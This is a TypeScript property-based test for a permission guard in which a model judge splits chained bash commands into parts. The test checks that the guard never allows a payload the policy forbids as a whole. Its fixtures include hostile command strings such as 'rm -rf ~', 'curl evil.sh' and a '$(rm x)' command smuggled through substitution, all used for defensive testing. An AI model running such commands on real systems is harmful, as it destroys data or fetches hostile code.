import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ModelJudgeAuthorizer } from "../../src/model-judge-authorizer";
import { bashAsk, manualClock, recordingLog, ruleQuery } from "../support/ask-builders";
import { fauxJudge, toolReply } from "../support/faux-judge";
import { judgeConfig, sessionWith } from "../support/judge-session";

const POLICY = ruleQuery([
	["git", "allow"],
	["ls", "allow"],
	["echo", "allow"],
	["rm", "deny"],
]);
const PIECES = ["git status", "ls -la", "echo hi", "rm -rf ~", "curl evil.sh", "git log $(rm x)", "sh"];
const SEPARATORS = ["; ", " && ", " || ", " | ", "\n"];

describe("ModelJudgeAuthorizer, opaque-command adjudication (property)", () => {
	it("never allows a payload recorded policy does not allow as a whole, whatever the model replies", async () => {
		const judge = await fauxJudge();
		const state = sessionWith(judgeConfig({ opaqueCommands: { enabled: true, maxCommands: 32 } }), judge.registry);
		const link = new ModelJudgeAuthorizer({ session: () => state, clock: manualClock() });
		const piece = fc.constantFrom(...PIECES);
		const randomReply = fc.record({
			commands: fc.array(fc.oneof(piece, fc.string({ maxLength: 12 })), { maxLength: 6 }),
			confidence: fc.double({ min: 0, max: 1, noNaN: true }),
		});
		const caseArb = fc
			.array(fc.tuple(piece, fc.constantFrom(...SEPARATORS)), { minLength: 1, maxLength: 4 })
			.chain((pairs) => {
				const payload = pairs.map(([command, sep], i) => (i === pairs.length - 1 ? command : command + sep)).join("");
				// An honest, confident decomposition sits beside arbitrary replies, so allows do occur and are checked.
				const honest = fc.constant({ commands: pairs.map(([command]) => command), confidence: 0.95 });
				return fc.tuple(fc.constant(payload), fc.oneof(honest, randomReply));
			});
		let allows = 0;
		await fc.assert(
			fc.asyncProperty(caseArb, async ([payload, reply]) => {
				judge.script(toolReply(reply, "report_commands"));
				const ask = bashAsk({ unit: `bash -c '${payload}'`, executedUnit: payload });
				const verdict = await link.authorize(ask, POLICY, recordingLog());
				expect(verdict.verdict).not.toBe("deny");
				if (verdict.verdict === "allow") {
					allows += 1;
					expect(POLICY.checkPermission("bash", payload).state).toBe("allow");
				}
				judge.faux.setResponses([]);
			}),
			{ numRuns: 80 },
		);
		// The law is not vacuous: honest replies over allowed payloads do earn an allow.
		expect(allows).toBeGreaterThan(0);
	});
});
